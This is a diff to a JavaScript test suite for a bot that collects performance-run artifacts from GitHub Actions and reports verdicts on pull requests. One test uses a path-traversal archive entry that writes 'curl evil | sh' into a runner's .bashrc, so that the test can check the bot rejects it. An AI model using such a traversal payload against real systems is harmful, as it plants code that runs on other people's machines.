@@ -39,7 +39,7 @@ describe('completed runs and their artifacts', () => {
     const request = await bot.requestForComment(running.store, comment.id);
     assert.equal(request.status, 'dispatched');
     const run = await (await fetch(`${gh.url}/repos/${REPOSITORY}/actions/runs/${request.runId}`)).json();
-    return { pr, request, run, name: `perfgate-${comment.id}` };
+    return { pr, request, run, name: 'perfgate-quick' };
   }
 
   async function complete(run, conclusion = 'success', options = {}) {
@@ -51,13 +51,13 @@ describe('completed runs and their artifacts', () => {
 
   it('a good run folder is stored and shown: the table in the sticky comment, the verdict in the check run', async () => {
     const { pr, request, run, name } = await dispatched();
-    const files = runFolderFiles();
+    const files = runFolderFiles({ pr });
     writeArtifact(artifactsDir, run.id, name, files);
     const before = await runsStored();
     const answer = await complete(run);
     assert.deepEqual([answer.status, answer.text], [202, 'queued']);
     assert.equal(await runsStored(), before + 1);
-    const stored = await running.store.db.selectFrom('runs').selectAll().where('run_key', '=', `${REPOSITORY}/${run.id}/1`).executeTakeFirst();
+    const stored = await running.store.db.selectFrom('runs').selectAll().where('run_key', '=', `${REPOSITORY}/${run.id}/1/perfgate-quick`).executeTakeFirst();
     assert.equal(Number(stored.request_id), request.id);
     const sides = await running.store.db.selectFrom('run_sides as s').innerJoin('commits as c', 'c.id', 's.commit_id').select(['s.side', 'c.sha']).where('s.run_id', '=', stored.id).orderBy('s.side').execute();
     assert.deepEqual(sides, [{ side: 'base', sha: BASE_SHA }, { side: 'head', sha: HEAD_SHA }]);
@@ -82,11 +82,11 @@ describe('completed runs and their artifacts', () => {
 
   it("an artifact holding '../' paths is rejected: nothing stored, the sticky comment and the check run say why", async () => {
     const { pr, request, run, name } = await dispatched();
-    writeArtifact(artifactsDir, run.id, name, { ...runFolderFiles(), '../../../home/runner/.bashrc': 'curl evil | sh' });
+    writeArtifact(artifactsDir, run.id, name, { ...runFolderFiles({ pr }), '../../../home/runner/.bashrc': 'curl evil | sh' });
     const before = await runsStored();
     await complete(run);
     assert.equal(await runsStored(), before);
-    const why = 'its artifact was rejected: `archive path "../../../home/runner/.bashrc" leaves the extraction folder`';
+    const why = 'its artifact was rejected: `perfgate-quick: archive path "../../../home/runner/.bashrc" leaves the extraction folder`';
     assert.deepEqual(sticky(pr), [`<!-- perfgate:comment suite=quick -->\n### 💥 perfgate quick: no verdict\n\nThe [workflow run](${run.html_url}) of \`/perf quick\` from @maintainer (head \`${HEAD_SHA.slice(0, 12)}\`, base \`${BASE_SHA.slice(0, 12)}\`) left nothing perfgate could use: ${why}. Nothing was stored; \`/perf rerun\` measures it again.\n`]);
     const check = gh.state.checkRuns(REPOSITORY).find((c) => c.id === request.checkRunId);
     assert.deepEqual([check.conclusion, check.output.title, check.output.summary], ['failure', 'perfgate quick: no verdict', `${why}.`]);
@@ -97,18 +97,18 @@ describe('completed runs and their artifacts', () => {
   it('an artifact of another head than the pinned one is rejected: nothing stored', async () => {
     const { pr, run, name } = await dispatched();
     const other = 'd'.repeat(40);
-    writeArtifact(artifactsDir, run.id, name, runFolderFiles({ headSha: other }));
+    writeArtifact(artifactsDir, run.id, name, runFolderFiles({ pr, headSha: other }));
     const before = await runsStored();
     await complete(run);
     assert.equal(await runsStored(), before);
-    assert.match(sticky(pr)[0], new RegExp(`its artifact was rejected: \`results.json: sides.head.commit is ${other}, but the command pinned ${HEAD_SHA}\``));
+    assert.match(sticky(pr)[0], new RegExp(`its artifact was rejected: \`perfgate-quick/action-run.json: head_sha is ${other}, but the command pinned ${HEAD_SHA}\``));
   });
 
   it('an artifact larger than the limit is not downloaded', async () => {
     const { pr, run, name } = await dispatched();
     // Random text does not compress: the zip itself is over the 4 MiB limit.
     const noise = require('node:crypto').randomBytes(4.5 * 1024 * 1024).toString('base64');
-    writeArtifact(artifactsDir, run.id, name, { ...runFolderFiles(), 'servers/base/error.log': noise });
+    writeArtifact(artifactsDir, run.id, name, { ...runFolderFiles({ pr }), 'servers/base/error.log': noise });
     const downloadsBefore = gh.callsTo('actions/download-artifact').length;
     await complete(run);
     assert.equal(gh.callsTo('actions/download-artifact').length, downloadsBefore);
@@ -118,13 +118,13 @@ describe('completed runs and their artifacts', () => {
   it('a failed run without an artifact: no verdict, and the sticky comment says how it ended', async () => {
     const { pr, run, name } = await dispatched();
     await complete(run, 'failure');
-    assert.match(sticky(pr)[0], new RegExp(`left nothing perfgate could use: the run ended failure \\(\`the run uploaded no artifact named ${name}\`\\)`));
+    assert.match(sticky(pr)[0], new RegExp(`left nothing perfgate could use: the run ended failure \\(\`the run uploaded no run folder \\(an artifact perfgate-quick, or its shards\\)\`\\)`));
   });
 
   it('a run whose id GitHub did not give back is found by its run-name', async () => {
     const { pr, request, run, name } = await dispatched();
     await bot.updateRequest(running.store, request.id, { runId: null });
-    writeArtifact(artifactsDir, run.id, name, runFolderFiles());
+    writeArtifact(artifactsDir, run.id, name, runFolderFiles({ pr }));
     await complete(run);
     const after = await bot.getRequest(running.store, request.id);
     assert.deepEqual([after.status, after.runId], ['completed', run.id]);
